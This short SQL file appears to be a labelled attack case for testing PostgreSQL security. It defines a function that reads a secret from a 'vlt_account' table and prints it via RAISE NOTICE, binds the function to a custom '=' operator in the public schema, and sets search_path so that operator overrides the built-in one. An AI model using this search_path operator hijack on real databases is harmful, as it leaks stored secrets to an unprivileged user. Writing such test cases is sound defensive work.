-- Hides a built-in operator behind an own one.
-- wants: read
-- attack:
CREATE FUNCTION differs(text, text) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM public.vlt_account WHERE id = 1); RETURN false; END$$;
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = differs);
SET search_path = public, pg_catalog;
SELECT * FROM mallory_own WHERE v = 'x';
